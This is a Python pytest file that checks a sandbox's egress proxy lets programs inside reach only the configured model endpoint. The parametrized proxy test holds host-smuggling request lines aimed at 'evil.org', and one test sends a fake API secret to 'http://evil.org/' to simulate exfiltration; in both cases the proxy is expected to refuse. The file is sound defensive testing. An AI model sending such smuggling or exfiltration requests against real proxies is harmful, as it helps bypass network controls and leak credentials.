"""Egress: inside cairn's real sandbox, only the model endpoint is reachable.

Real bubblewrap, real socat, real HTTP(S) servers on 127.0.0.1. The programs inside are Python's
urllib (it honours HTTPS_PROXY / NO_PROXY as curl does), run by the sandbox's own /bin/sh.
"""

from __future__ import annotations

import datetime
import ipaddress
import json
import logging
import shutil
import socket
import ssl
import stat
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from cairn.errors import UsageError, WorkspaceError
from cairn.testing import ScriptedResponsesServer, text_answer
from cairn.workspace.commands import command_environment, sandbox_argv, sandbox_problem
from cairn.workspace.egress import Egress, parse_endpoint

# `make test` installs both; the tests of bad input and of a missing socat need neither.
needs_tools = pytest.mark.skipif(
    sandbox_problem() is not None or shutil.which("socat") is None,
    reason="needs bubblewrap and socat (make test installs them)",
)

SECRET = "sk-egress-test-secret-value"

# Run inside the sandbox: fetch argv[1] (optionally trusting the certificate argv[2]) and print
# one JSON line: the status and body, or the error.
CLIENT = """
import json, ssl, sys, urllib.request, urllib.error
url = sys.argv[1]
context = ssl.create_default_context(cafile=sys.argv[2]) if len(sys.argv) > 2 else None
try:
    with urllib.request.urlopen(url, timeout=10, context=context) as answer:
        print(json.dumps({"status": answer.status, "body": answer.read().decode()}))
except urllib.error.HTTPError as error:
    print(json.dumps({"status": error.code, "body": error.read().decode()}))
except Exception as error:
    print(json.dumps({"error": f"{type(error).__name__}: {error}"}))
"""


class _Hello(BaseHTTPRequestHandler):
    """Answers every GET with its own path, and remembers the paths it saw."""

    def do_GET(self) -> None:
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        body = f"hello {self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Silent."""


def _serve(context: ssl.SSLContext | None = None) -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    server.paths = []  # type: ignore[attr-defined]
    if context is not None:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def endpoint() -> Iterator[ThreadingHTTPServer]:
    """The model endpoint: a plain HTTP server on loopback."""
    yield from _serve()


@pytest.fixture
def other() -> Iterator[ThreadingHTTPServer]:
    """Another server of the host's loopback, which the sandbox must not reach."""
    yield from _serve()


@pytest.fixture
def certificate(tmp_path: Path) -> tuple[Path, Path]:
    """A self-signed certificate for 127.0.0.1 and its key."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    # The sandbox covers the host's temporary folder, where tmp_path is; the workspace is
    # bound back, so the certificate goes there.
    cert_path, key_path = tmp_path / "ws" / "cert.pem", tmp_path / "key.pem"
    cert_path.parent.mkdir(exist_ok=True)
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


@pytest.fixture
def tls_endpoint(certificate: tuple[Path, Path]) -> Iterator[ThreadingHTTPServer]:
    """The model endpoint over https, with the self-signed certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate)
    yield from _serve(context)


def _url(server: ThreadingHTTPServer, scheme: str = "http") -> str:
    return f"{scheme}://127.0.0.1:{server.server_address[1]}"


def _fetch_inside(
    tmp_path: Path, egress: Egress, url: str, *, cafile: Path | None = None, proxy_all: bool = False
) -> dict[str, object]:
    """Fetch `url` from inside cairn's sandbox (cairn's home hidden) through `egress`."""
    client = [sys.executable, "-c", CLIENT, url, *([str(cafile)] if cafile else [])]
    result: dict[str, object] = json.loads(_run_inside(tmp_path, egress, client, proxy_all))
    return result


def _run_inside(
    tmp_path: Path,
    egress: Egress,
    command: list[str],
    proxy_all: bool = False,
    extra: dict[str, str] | None = None,
) -> str:
    """Run `command` in cairn's sandbox (cairn's home hidden) through `egress`: its last line."""
    workspace, private_tmp = tmp_path / "ws", tmp_path / "private"
    workspace.mkdir(exist_ok=True)
    private_tmp.mkdir(exist_ok=True)
    bwrap = shutil.which("bwrap")
    assert bwrap is not None
    outer = sandbox_argv(bwrap, workspace, private_tmp, [tmp_path / "home"])
    assert outer[-1] == "--"
    argv = [*outer[:-1], *egress.bwrap_args, "--", *egress.inner_prefix, *command]
    env = command_environment(private_tmp, extra={**egress.environment, **(extra or {})})
    if proxy_all:  # a client that sends loopback through the proxy too
        env = {k: v for k, v in env.items() if k.lower() != "no_proxy"}
    done = subprocess.run(
        argv, env=env, cwd=workspace, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip().splitlines()[-1]


def _folder(tmp_path: Path) -> Path:
    # Inside cairn's (hidden) home, as a job's private folder is; where the test's temporary
    # folder is too deep for a socket's path (pytest-xdist's are deeper), a short private one
    # under the host's temporary folder, as cli_process falls back to.
    folder = tmp_path / "home" / "jobs" / "j1" / "egress"
    if len(str(folder)) > 80:
        folder = Path(tempfile.mkdtemp(prefix="cairn-egress-"))
    return folder


@needs_tools
def test_the_loopback_endpoint_is_reached_inside_directly_and_through_the_proxy(
    tmp_path: Path, endpoint: ThreadingHTTPServer
) -> None:
    url = _url(endpoint) + "/v1"
    with Egress([url], _folder(tmp_path)) as egress:
        assert egress.url_inside(url) == url
        direct = _fetch_inside(tmp_path, egress, egress.url_inside(url) + "/direct")
        proxied = _fetch_inside(tmp_path, egress, url + "/proxied", proxy_all=True)
        assert egress.refusals == ()
    assert direct == {"status": 200, "body": "hello /v1/direct"}
    assert proxied == {"status": 200, "body": "hello /v1/proxied"}
    assert endpoint.paths == ["/v1/direct", "/v1/proxied"]  # type: ignore[attr-defined]


@needs_tools
def test_https_reaches_an_allowed_endpoint_through_connect(
    tmp_path: Path, tls_endpoint: ThreadingHTTPServer, certificate: tuple[Path, Path]
) -> None:
    url = _url(tls_endpoint, "https")
    with Egress([url], _folder(tmp_path)) as egress:
        result = _fetch_inside(
            tmp_path, egress, url + "/tls", cafile=certificate[0], proxy_all=True
        )
    assert result == {"status": 200, "body": "hello /tls"}


@needs_tools
def test_another_loopback_port_of_the_host_is_unreachable_inside(
    tmp_path: Path, endpoint: ThreadingHTTPServer, other: ThreadingHTTPServer
) -> None:
    with Egress([_url(endpoint)], _folder(tmp_path)) as egress:
        direct = _fetch_inside(tmp_path, egress, _url(other) + "/direct")
        proxied = _fetch_inside(tmp_path, egress, _url(other) + "/proxied", proxy_all=True)
    assert "Connection refused" in str(direct["error"])
    assert proxied["status"] == 403
    assert "is not the model endpoint" in str(proxied["body"])
    assert other.paths == []  # type: ignore[attr-defined]


@needs_tools
def test_a_host_that_is_not_the_endpoint_is_refused_by_the_proxy(
    tmp_path: Path, endpoint: ThreadingHTTPServer
) -> None:
    with Egress([_url(endpoint)], _folder(tmp_path)) as egress:
        plain = _fetch_inside(tmp_path, egress, "http://example.com/")
        tunnelled = _fetch_inside(tmp_path, egress, "https://example.com/")
    refusals = egress.refusals  # kept after the run, for the turn's diagnosis
    assert plain["status"] == 403
    assert "example.com:80 is not the model endpoint" in str(plain["body"])
    assert "403" in str(tunnelled["error"])  # urllib: "Tunnel connection failed: 403 Forbidden"
    assert refusals == (
        "example.com:80 is not the model endpoint this sandbox may reach",
        "example.com:443 is not the model endpoint this sandbox may reach",
    )


@needs_tools
def test_a_direct_connection_to_an_external_address_has_no_route(
    tmp_path: Path, endpoint: ThreadingHTTPServer
) -> None:
    # NO_PROXY=* makes the client skip the proxy: the sandbox's own network has no route out.
    with Egress([_url(endpoint)], _folder(tmp_path)) as egress:
        egress.environment["NO_PROXY"] = egress.environment["no_proxy"] = "*"
        result = _fetch_inside(tmp_path, egress, "http://192.0.2.1/")
    assert "unreachable" in str(result["error"])


SDK_CLIENT = """
import os, sys
from openai import OpenAI
with OpenAI(base_url=sys.argv[1], max_retries=0, timeout=20) as client:
    with client.responses.create(model="m", input="job-a: greet", stream=True) as stream:
        text = "".join(e.delta for e in stream if e.type == "response.output_text.delta")
print(text)
"""


@needs_tools
@pytest.mark.parametrize("proxy_all", [False, True], ids=["direct", "through-the-proxy"])
def test_the_openai_sdk_inside_streams_from_a_scripted_server_outside(
    tmp_path: Path, responses_server: ScriptedResponsesServer, proxy_all: bool
) -> None:
    responses_server.add_answers("job-a", text_answer("hello from outside the sandbox"))
    assert responses_server.api_key is not None
    with Egress([responses_server.base_url], _folder(tmp_path)) as egress:
        command = [sys.executable, "-c", SDK_CLIENT, egress.url_inside(responses_server.base_url)]
        key = {"OPENAI_API_KEY": responses_server.api_key}
        said = _run_inside(tmp_path, egress, command, proxy_all, extra=key)
    assert said == "hello from outside the sandbox"
    (request,) = responses_server.requests
    assert request.authorization_matched and request.conversation == "job-a"
    # The proxy makes every relayed request the last of its connection; the SDK asks for more.
    assert request.headers["connection"] == ("close" if proxy_all else "keep-alive")


@needs_tools
def test_a_bridge_carries_both_directions_at_once(tmp_path: Path) -> None:
    # An echo server: the client sends megabytes while the echo comes back, as a tunnelled
    # HTTP/2 stream does; a relay that only did one direction at a time would stall.
    listener = socket.create_server(("127.0.0.1", 0))
    payload = bytes(range(256)) * 16384  # 4 MiB

    def echo() -> None:
        connection, _ = listener.accept()
        with connection:
            while data := connection.recv(65536):
                connection.sendall(data)

    echoing = threading.Thread(target=echo)
    echoing.start()
    port = listener.getsockname()[1]
    received = bytearray()
    with (
        Egress([f"http://127.0.0.1:{port}"], tmp_path / "egress") as egress,
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock,
    ):
        sock.settimeout(30)
        sock.connect(str(egress.folder / f"direct-{port}.sock"))

        def send() -> None:
            sock.sendall(payload)
            sock.shutdown(socket.SHUT_WR)

        sending = threading.Thread(target=send)
        sending.start()
        while piece := sock.recv(65536):
            received += piece
        sending.join()
    echoing.join()
    listener.close()
    assert received == payload


# The proxy itself, spoken to over its Unix socket as the bridge inside does.


def _ask_proxy(egress: Egress, head: str, body: bytes = b"") -> bytes:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(10)
        sock.connect(str(egress.folder / "proxy.sock"))
        sock.sendall(head.encode() + b"\r\n\r\n" + body)
        answer = b""
        while b"\r\n\r\n" not in answer:
            piece = sock.recv(4096)
            if not piece:
                break
            answer += piece
        if not answer.startswith(b"HTTP/1.1 200 Connection"):
            while piece := sock.recv(4096):
                answer += piece
        return answer


@needs_tools
@pytest.mark.parametrize(
    ("head", "status"),
    [
        ("CONNECT allowed.example.com:8443 HTTP/1.1", b"403"),  # the right host, another port
        ("CONNECT allowed.example.com.evil.org:443 HTTP/1.1", b"403"),
        ("CONNECT evil-allowed.example.com:443 HTTP/1.1", b"403"),
        ("CONNECT example.com:443 HTTP/1.1", b"403"),
        ("CONNECT allowed.example.com:443@evil.org:443 HTTP/1.1", b"400"),
        ("CONNECT user@allowed.example.com:443 HTTP/1.1", b"400"),
        ("CONNECT allowed.example.com HTTP/1.1", b"400"),  # CONNECT must name its port
        ("GET http://allowed.example.com:443@evil.org/ HTTP/1.1\r\nHost: evil.org", b"400"),
        ("GET http://evil.org/ HTTP/1.1\r\nHost: allowed.example.com:443", b"400"),
        ("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: evil.org", b"400"),
        ("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nHost: x", b"400"),
        ("GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1:{port}", b"400"),  # not proxy form
        ("GET ftp://127.0.0.1:{port}/ HTTP/1.1", b"400"),
    ],
)
def test_the_proxy_matches_host_and_port_exactly(
    tmp_path: Path, endpoint: ThreadingHTTPServer, head: str, status: bytes
) -> None:
    port = endpoint.server_address[1]
    allowed = ["https://allowed.example.com", _url(endpoint)]
    with Egress(allowed, tmp_path / "egress") as egress:
        answer = _ask_proxy(egress, head.format(port=port))
    assert answer.split(b" ")[1] == status, answer
    assert endpoint.paths == []  # type: ignore[attr-defined]


@needs_tools
def test_an_allowed_connect_opens_a_tunnel_to_the_endpoint(
    tmp_path: Path, endpoint: ThreadingHTTPServer
) -> None:
    port = endpoint.server_address[1]
    with (
        Egress([_url(endpoint)], tmp_path / "egress") as egress,
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock,
    ):
        sock.settimeout(10)
        sock.connect(str(egress.folder / "proxy.sock"))
        sock.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
        assert sock.recv(4096) == b"HTTP/1.1 200 Connection Established\r\n\r\n"
        sock.sendall(b"GET /tunnelled HTTP/1.0\r\n\r\n")
        answer = b""
        while piece := sock.recv(4096):
            answer += piece
    assert answer.startswith(b"HTTP/1.0 200") and answer.endswith(b"hello /tunnelled")


@needs_tools
def test_the_proxy_never_echoes_or_logs_what_a_request_carries(
    tmp_path: Path,
    endpoint: ThreadingHTTPServer,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level(logging.DEBUG)
    secret_head = f"Authorization: Bearer {SECRET}\r\nContent-Length: {len(SECRET)}"
    with Egress([_url(endpoint)], tmp_path / "egress") as egress:
        refused = _ask_proxy(
            egress, f"POST http://evil.org/{SECRET} HTTP/1.1\r\n{secret_head}", SECRET.encode()
        )
        tunnel = _ask_proxy(egress, f"CONNECT evil.org:443 HTTP/1.1\r\n{secret_head}")
        refusals = egress.refusals
    captured = capfd.readouterr()
    assert b"403" in refused and b"403" in tunnel
    for seen in (refused.decode(), tunnel.decode(), *refusals, caplog.text, *captured):
        assert SECRET not in seen


@needs_tools
def test_sockets_are_removed_on_exit_even_on_an_exception(
    tmp_path: Path, endpoint: ThreadingHTTPServer
) -> None:
    folder = tmp_path / "egress"
    port = endpoint.server_address[1]
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    with (
        pytest.raises(RuntimeError, match="the turn failed"),
        Egress([_url(endpoint)], folder) as egress,
    ):
        assert sorted(p.name for p in folder.iterdir()) == [f"direct-{port}.sock", "proxy.sock"]
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        assert {stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()} == {0o600}
        # A tunnel still open when the run ends does not keep it from ending.
        sock.connect(str(folder / f"direct-{port}.sock"))
        raise RuntimeError("the turn failed")
    sock.close()
    assert list(folder.iterdir()) == []
    assert egress.refusals == ()


@needs_tools
def test_sockets_left_by_a_killed_run_do_not_stop_the_next(
    tmp_path: Path, endpoint: ThreadingHTTPServer
) -> None:
    folder = tmp_path / "egress"
    folder.mkdir()
    port = endpoint.server_address[1]
    for name in ("proxy.sock", f"direct-{port}.sock"):  # bound, never unlinked: a SIGKILL
        left = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        left.bind(str(folder / name))
        left.close()
    with Egress([_url(endpoint)], folder) as egress:
        answer = _ask_proxy(egress, f"GET {_url(endpoint)}/again HTTP/1.1")
    assert answer.startswith(b"HTTP/1.0 200") and answer.endswith(b"hello /again")


@needs_tools
def test_the_environment_points_every_proxy_variable_at_the_inside_port(tmp_path: Path) -> None:
    egress = Egress(["http://127.0.0.1:3128/v1", "https://api.example.com"], tmp_path / "e")
    assert egress.proxy_port != 3128  # the forwarded endpoint port keeps its own number
    proxy = f"http://127.0.0.1:{egress.proxy_port}"
    for name in ("HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY"):
        assert egress.environment[name] == egress.environment[name.lower()] == proxy
    assert egress.environment["NO_PROXY"] == "localhost,127.0.0.1,::1"
    assert "NO_PROXY" not in Egress(["https://api.example.com"], tmp_path / "f").environment
    assert egress.bwrap_args[0] == "--unshare-net"


@needs_tools
def test_url_inside_keeps_the_url_and_names_loopback_by_its_address(tmp_path: Path) -> None:
    egress = Egress(["http://localhost:8000/v1", "https://api.example.com/v1"], tmp_path / "e")
    assert egress.url_inside("http://localhost:8000/v1") == "http://127.0.0.1:8000/v1"
    assert egress.url_inside("https://api.example.com/v1") == "https://api.example.com/v1"
    with pytest.raises(ValueError, match="not one of this sandbox's model endpoints"):
        egress.url_inside("https://example.org")


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://API.example.com./v1", ("api.example.com", 443)),
        ("http://[::1]:8000", ("::1", 8000)),
        ("http://127.0.0.1", ("127.0.0.1", 80)),
    ],
)
def test_endpoints_parse_to_exact_host_and_port(url: str, expected: tuple[str, int]) -> None:
    assert parse_endpoint(url) == expected


@pytest.mark.parametrize(
    "url", ["ftp://example.com", "example.com:443", "https://", "http://h:99999"]
)
def test_an_endpoint_that_is_not_an_http_url_is_a_clear_error(url: str) -> None:
    with pytest.raises(UsageError, match="not an http:// or https:// URL with a host"):
        parse_endpoint(url)


def test_an_endpoint_with_a_password_is_refused_without_showing_it() -> None:
    with pytest.raises(UsageError, match="must not carry a user name or password") as caught:
        parse_endpoint(f"https://user:{SECRET}@api.example.com")
    assert SECRET not in str(caught.value)


def test_a_missing_socat_names_the_command_that_installs_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # a PATH with neither socat nor bwrap on it
    with pytest.raises(WorkspaceError) as caught:
        Egress(["https://api.example.com"], tmp_path / "egress")
    message = str(caught.value)
    assert "socat, which is not installed" in message
    assert "`apt-get install socat`" in message
    assert str(tmp_path) not in message


def test_a_folder_too_deep_for_unix_sockets_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(WorkspaceError, match="too deep for the sandbox's network sockets"):
        Egress(["https://api.example.com"], tmp_path / ("x" * 120))


def test_an_egress_without_endpoints_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="at least one model endpoint"):
        Egress([], tmp_path / "egress")
